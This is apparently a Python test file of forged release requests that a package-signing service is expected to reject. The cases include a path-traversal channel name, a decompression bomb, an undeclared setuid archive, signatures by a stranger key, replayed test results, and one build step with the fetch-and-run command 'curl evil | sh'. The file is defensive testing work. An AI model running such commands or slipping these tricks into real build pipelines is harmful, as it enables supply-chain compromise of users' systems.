"""Releases that the signer must not sign: a lie in the head, or in the set of packages.

Each request is composed as control composes it, with all evidence that exists, except for one lie.
"""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING

from zstandard import ZstdCompressor

from farm.core.fileset.manifest import File, Manifest
from farm.core.names.digest import Digest
from farm.core.package.facts import PackageFacts
from farm.core.plan.job import BlobRef, TestOrder
from farm.core.recipe.recipe import Limits, Test
from farm.signing.evidence import SignedTest
from farm.trust.index.release_index import Release
from tests.attack.farm import key_of
from tests.attack.liar import MALLORY
from tests.attack.message import MISSING, NESTED, Message
from tests.attack.scenario import PARTED, RELEASED, recipe_with_test
from tests.attack.workings import stranger_of
from tests.farms.people import signed
from tests.farms.small import archive_of

if TYPE_CHECKING:
    from collections.abc import Callable

    import httpx

    from tests.attack.liar import Liar

BUILDER, AGAIN, TESTER = key_of("builder"), key_of("again"), key_of("tester")


def _put(channel: str, name: str, of: str = "1.0", what: str = "", **lies: object) -> Message:
    """A release with a package of a given version in it, or with a lie about it."""
    label = what or f"{name} {of} on {channel}"
    return Message(label, lambda liar: liar.ask(liar.compose(channel, liar.entry(name, of, **lies))))


def _release(what: str, **lies: object) -> Message:
    """The next honest release, with a lie in its head."""
    return Message(what, lambda liar: liar.ask(liar.compose("edge", liar.entry("next"), **lies)))


def _bytes(what: str, content: Callable[[Liar], bytes]) -> Message:
    return Message(what, lambda liar: liar.ask(content(liar)))


def _newest(liar: Liar, channel: str = "edge") -> Release:
    release = liar.farm.release(channel)
    assert release is not None
    return release


def _older(liar: Liar, channel: str, number: int) -> Release:
    release = _newest(liar, channel)
    while release.number > number:
        assert release.previous is not None
        release = Release.from_json(liar.farm.blobs.read(release.previous))
    return release


def _set_of(liar: Liar, channel: str, other: Release) -> httpx.Response:
    """Ask for exactly the set of another release, without an order."""
    release = _newest(liar, channel)
    asked = replace(
        release,
        number=release.number + 1,
        previous=release.digest,
        index=other.index,
        packages=other.packages,
        released_at=datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
    )
    return liar.ask(asked)


HEADS = (
    _bytes("no JSON", lambda _: b"rubbish"),
    _bytes("nested JSON", lambda _: NESTED),
    _bytes("too much", lambda _: b" " * (5 << 20)),
    _bytes("another form of the same", lambda liar: json.dumps(json.loads(_newest(liar).to_json()), indent=1).encode()),
    _bytes("a list", lambda _: b"[]"),
    _bytes("another format", lambda liar: _newest(liar).to_json().replace(b'"format":', b'"format":9')),
    _bytes("one number twice", lambda liar: _newest(liar).to_json().replace(b'{"channel"', b'{"number":1,"channel"')),
    _release("another distribution", distribution="evil.example.org"),
    _release("a channel that there is not", channel="nightly"),
    _release("the role of advisories", channel="advisories"),
    _release("a channel with a path in its name", channel="../edge"),
    _release("a number left out", number=9),
    _release("the number of the newest", number=2),
    _release("a negative number", number=-1),
    _bytes(
        "an endless number", lambda liar: _newest(liar).to_json().replace(b'"number":2', b'"number":2' + b"0" * 5000)
    ),
    _release("no predecessor", previous=None),
    _release("another predecessor", previous=MISSING),
    _release("a time to come", released_at="2999-01-01T00:00:00Z"),
    _release("a time before the newest", released_at="2020-01-01T00:00:00Z"),
    _release("no time", released_at="soon"),
    _release("more packages than there are", packages=99),
    _release("no index", index=BlobRef(MISSING, 10)),
    _release("an index of another size", index=BlobRef(MISSING, 10**9)),
    Message(
        "an index that is none", lambda liar: liar.ask(liar.compose("edge", liar.entry("next"), index=liar.keep(b"[]")))
    ),
    Message(
        "an index that is nested",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next"), index=liar.keep(NESTED))),
    ),
    Message(
        "a package of a stranger's distribution",
        lambda liar: liar.ask(liar.compose("edge", imports=(stranger_of(liar),))),
    ),
    Message("the newest once more", lambda liar: liar.ask(_newest(liar)), harmless=True),
    Message("the first once more", lambda liar: liar.ask(_older(liar, "edge", 1))),
    Message("a release of another channel", lambda liar: liar.ask(replace(_newest(liar, "twice"), channel="edge"))),
    Message("the earlier set, without an order", lambda liar: _set_of(liar, "edge", _older(liar, "edge", 1))),
    Message("the set of another channel", lambda liar: _set_of(liar, "stable", _newest(liar, "edge"))),
    Message("the set of the frozen channel", lambda liar: _set_of(liar, "edge", _newest(liar, "still"))),
)
"""Messages with lies in a release's head."""


def _built(what: str, key: object, **lies: object) -> Message:
    return Message(what, lambda liar: liar.ask(liar.compose("edge", liar.built("next", key, **lies))))  # type: ignore[arg-type]


def _malicious(liar: Liar) -> httpx.Response:
    honest = liar.plan("next")
    evil = replace(honest, steps=(*honest.steps, replace(honest.steps[-1], script="curl evil | sh")))
    return liar.ask(liar.compose("edge", liar.built("next", BUILDER, plan=evil, text=evil.digest)))


def _other_content(liar: Liar, channel: str, name: str, version: str) -> httpx.Response:
    return liar.ask(liar.compose(channel, liar.built(name, BUILDER, version=version)))


def _other_archive(liar: Liar, content: bytes) -> httpx.Response:
    return liar.ask(liar.compose("edge", liar.entry("next", archive=liar.keep(content))))


def _archive_with(liar: Liar, file: File, content: bytes) -> bytes:
    manifest = Manifest.of([file])
    return ZstdCompressor().compress(archive_of(manifest, "next", "1.0", {file.path: content}))


def _setuid(liar: Liar) -> httpx.Response:
    """A set-id program that its recipe does not declare, honestly signed by a builder."""
    plan = liar.plan("next")
    entry = liar.built("next", BUILDER, plan=plan, text="suid")
    return liar.ask(liar.compose("edge", replace(entry, archive=liar.keep(b"\x28\xb5\x2f\xfd"))))


def _tests(liar: Liar, **said: object) -> httpx.Response:
    """Ask for the package whose test fails, with a result that was signed for it."""
    test = liar.tested("broken", "2.0", **said)  # type: ignore[arg-type]
    return liar.ask(liar.compose("edge", liar.entry("broken", "2.0")), liar.evidence(tests=(*liar.tests(), test)))


def _replayed(liar: Liar) -> httpx.Response:
    """Ask for it with the results of the previous version, under its own order."""
    (order,) = {
        test.order for test in liar.tests() if _subject(liar, test) == liar.package("broken", "2.0").digest
    } or {MISSING}
    results = tuple(digest for test in liar.tests() for digest in test.results)
    evidence = liar.evidence(tests=(SignedTest(order, results),))
    return liar.ask(liar.compose("edge", liar.entry("broken", "2.0")), evidence)


def _flaked(liar: Liar) -> httpx.Response:
    """Ask for it with a signed failure of the released version, withholding the result that the version has passed."""
    before = liar.package("broken")
    others = [test for test in liar.tests() if _subject(liar, test) != before.digest]
    flake = liar.tested("broken", "1.0", passed=False, closure=(liar.there(before),))
    evidence = liar.evidence(tests=(*others, flake, liar.tested("broken", "2.0")))
    return liar.ask(liar.compose("edge", liar.entry("broken", "2.0")), evidence)


def _subject(liar: Liar, test: SignedTest) -> Digest:
    return TestOrder.from_dict(json.loads(liar.farm.blobs.read(test.order))).subject


def _tested_by(liar: Liar, recipe: dict[str, bytes]) -> httpx.Response:
    return liar.ask(liar.compose("edge", liar.entry("broken", "2.0", tests=liar.recipe(recipe))))


def _signed_by_mallory(liar: Liar) -> httpx.Response:
    """A stranger's package, honestly built, with a submission in an owner's name."""
    recipe = recipe_with_test("stranger")
    digest = liar.recipe(recipe)
    envelope = liar.keep(signed("alice", recipe, key=MALLORY)).digest
    entry = liar.built("next", BUILDER)
    evidence = liar.evidence()
    evidence = replace(evidence, submissions=(*evidence.submissions, envelope))
    return liar.ask(liar.compose("edge", replace(entry, recipe=digest)), evidence)


def _lost(liar: Liar, channel: str, *names: str) -> httpx.Response:
    return liar.ask(liar.compose(channel, remove=names))


_UNHELD = [name for name in (*RELEASED, *PARTED) if name not in ("kept", "pair", "pair-libs")]

SETS = (
    _put("edge", "viral"),
    _put("edge", "hungry"),
    _put("edge", "clash"),
    _put("edge", "needy", needs=(), what="needy on edge, which says that it needs nothing"),
    _put("edge", "needy"),
    _put("edge", "needy", needs=("lib",), what="needy on edge, which says that it needs something else"),
    _put("edge", "broken", "2.0"),
    _put("edge", "kept", "2.0"),
    _put("edge", "tool", "1.0"),
    _put("stable", "lone"),
    _put("stable", "next", what="next on stable, which edge has not released"),
    _put("stable", "viral"),
    _put("stable", "vuln"),
    _put("stable", "reported"),
    _put("slow", "lib"),
    _put("still", "tool", "2.0"),
    _put("twice", "lone"),
    _put("twice", "broken", "2.0"),
    Message(
        "two packages of whom one may not",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next"), liar.entry("viral"))),
    ),
    Message("without what another needs", lambda liar: _lost(liar, "edge", "lib")),
    Message("without what nobody needs", lambda liar: _lost(liar, "edge", "lone")),
    Message("without a library that is made still", lambda liar: _lost(liar, "edge", "duo-libs")),
    Message("without anything", lambda liar: _lost(liar, "edge", *RELEASED, *PARTED)),
    Message("without anything that is not held", lambda liar: _lost(liar, "edge", *_UNHELD)),
    _put("edge", "duo-libs", "2.0", what="a library without the package whose test fails"),
    Message(
        "a library in place of the package whose test fails",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("duo-libs", "2.0"), remove=["duo"])),
    ),
    Message(
        "a library with the package whose test fails",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("duo-libs", "2.0"), liar.entry("duo", "2.0"))),
    ),
    _put("twice", "duo-libs", "2.0"),
    _put("edge", "pair-libs", "2.0", what="a library of what is held"),
    Message(
        "a library of what is held, which goes",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("pair-libs", "2.0"), remove=["pair"])),
    ),
    Message("without what edge still has", lambda liar: _lost(liar, "twice", "vuln")),
    Message(
        "a package under another's name", lambda liar: liar.ask(liar.compose("edge", liar.entry("viral", name="next")))
    ),
    _put("edge", "tool", "2.0", version="3.0", what="a version that its descriptor does not have"),
    _put("edge", "tool", "2.0", revision=9, what="a revision that its descriptor does not have"),
    _put("edge", "next", summary="Safe to run as root", what="a summary that is not its recipe's"),
    _put("edge", "lib", summary="Safe to run as root", what="another summary of what is released"),
    Message(
        "a bill of materials that is another's",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", sbom=liar.entry("lib").sbom))),
    ),
    Message(
        "a bill of materials that is none",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", sbom=liar.keep(b"{}")))),
    ),
    _put("edge", "next", sbom=None, what="without a bill of materials"),
    _put("edge", "app", needs=(), what="what needs another says that it does not"),
    Message(
        "another's archive",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", archive=liar.entry("lib").archive))),
    ),
    Message(
        "another's manifest",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", manifest=liar.entry("lib").manifest))),
    ),
    Message(
        "another's descriptor",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", descriptor=liar.entry("viral").descriptor))),
    ),
    Message(
        "another's provenance",
        lambda liar: liar.ask(liar.compose("edge", liar.entry("next", provenance=liar.entry("lib").provenance))),
    ),
    Message(
        "other facts",
        lambda liar: liar.ask(
            liar.compose("edge", liar.entry("next", facts=liar.keep(PackageFacts(headers=("include/x.h",)).to_json())))
        ),
    ),
    Message(
        "an archive of other content",
        lambda liar: _other_archive(liar, _archive_with(liar, File("share/next/x", 4, Digest.of(b"evil")), b"evil")),
    ),
    Message("an archive that is none", lambda liar: _other_archive(liar, b"rubbish")),
    Message(
        "an archive that unpacks to a lot",
        lambda liar: _other_archive(liar, ZstdCompressor().compress(bytes(256 << 20))),
    ),
    Message(
        "an archive that breaks off", lambda liar: _other_archive(liar, liar.read(liar.entry("next").archive)[:-20])
    ),
    Message("an archive of which nothing is said", _setuid),
    Message(
        "another recipe",
        lambda liar: liar.ask(
            liar.compose("edge", liar.entry("next", recipe=liar.recipe(recipe_with_test("next", more="# harmless\n"))))
        ),
    ),
    Message(
        "a recipe that nobody has", lambda liar: liar.ask(liar.compose("edge", liar.entry("next", recipe=MISSING)))
    ),
    _built("a package that a stranger has built", MALLORY),
    _built("a package that a tester has built", TESTER),
    _built("a link that no plan asks for", BUILDER, links=(("usr/bin/ls", "share/next/x"),)),
    _built("a replacement that no plan asks for", BUILDER, replaces=("lib",)),
    _built("a license that no plan has", BUILDER, license="0BSD"),
    Message("a malicious plan under an honest recipe", _malicious),
    Message("other files under what was published", lambda liar: _other_content(liar, "edge", "tool", "2.0")),
    Message(
        "other files under what another channel has published",
        lambda liar: _other_content(liar, "twice", "tool", "2.0"),
    ),
    Message("a stranger's recipe in an owner's name", _signed_by_mallory),
    Message("a passed test that a stranger has signed", lambda liar: _tests(liar, key=MALLORY, passed=True)),
    Message("a passed test that a builder has signed", lambda liar: _tests(liar, key=BUILDER, passed=True)),
    Message("a failed test that its tester has signed", _tests),
    Message("a passed test of another package", lambda liar: _tests(liar, passed=True, subject=MISSING)),
    Message("a passed test among other packages", lambda liar: _tests(liar, passed=True, closure=())),
    Message(
        "a passed test of another command",
        lambda liar: _tests(liar, test=Test("works", command=("/usr/bin/true",)), passed=True),
    ),
    Message("a passed test within other limits", lambda liar: _tests(liar, limits=Limits(minutes=99), passed=True)),
    Message("results of another order", _replayed),
    Message("a failure of what has passed before", _flaked),
    Message("the tests of an older recipe", lambda liar: _tested_by(liar, recipe_with_test("broken"))),
    Message(
        "the tests of a recipe that nobody has signed", lambda liar: _tested_by(liar, recipe_with_test("broken", "2.0"))
    ),
    Message("a rebuild by the same builder", lambda liar: _rebuilt(liar, liar.entry("lone").provenance)),
    Message("a rebuild by a stranger", lambda liar: _rebuilt(liar, liar.vouch("lone", MALLORY))),
    Message("a rebuild that came to something else", lambda liar: _rebuilt(liar, liar.built("lone", AGAIN).provenance)),
)
"""Messages with lies about a release's packages."""


def _rebuilt(liar: Liar, provenance: BlobRef) -> httpx.Response:
    return liar.ask(liar.compose("twice", liar.entry("lone", rebuilds=(provenance,))))
